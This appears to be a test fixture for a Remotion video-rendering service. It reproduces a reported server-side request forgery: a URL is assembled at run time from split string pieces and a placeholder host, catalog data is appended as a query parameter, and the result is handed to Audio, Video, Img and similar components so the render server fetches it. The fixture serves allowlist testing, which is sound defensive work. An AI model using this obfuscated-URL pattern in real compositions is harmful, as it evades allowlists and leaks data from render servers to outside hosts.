// Technique (reproduced in the issue): a URL built at run time from pieces and catalog data, handed to <Audio src>
// through images.map(() => url). Remotion downloads <Audio>, <Video> and <OffthreadVideo> sources from Node, so
// without the allowlist this is SSRF from the render server. One media component per frame.
import React from 'react';
import { AbsoluteFill, AnimatedImage, Audio, Html5Audio, Img, OffthreadVideo, Video, useCurrentFrame } from 'remotion';
import type { GeneratedVideoProps } from '@ppr/components';

const PIECES = ['ht', 'tp:', '//', '__HOST__'];

export default function Composition({ images, facts }: GeneratedVideoProps) {
  const frame = useCurrentFrame();
  const base = PIECES.join('');
  const sources = [...images, null].map(() => `${base}/a.mp3?d=${facts.domain}`);
  const variants = [
    () => <Audio src={sources[0]} />,
    () => <OffthreadVideo src={`${base}/v.mp4?d=${facts.domain}`} />,
    () => <Video src={`${base}/video.webm`} />,
    () => <Html5Audio src={`${base}/html5.mp3`} />,
    () => <Img src={`${base}/img.png`} />,
    () => <AnimatedImage src={`${base}/anim.gif`} />,
  ];
  return <AbsoluteFill style={{ backgroundColor: '#000000' }}>{variants[frame % variants.length]()}</AbsoluteFill>;
}
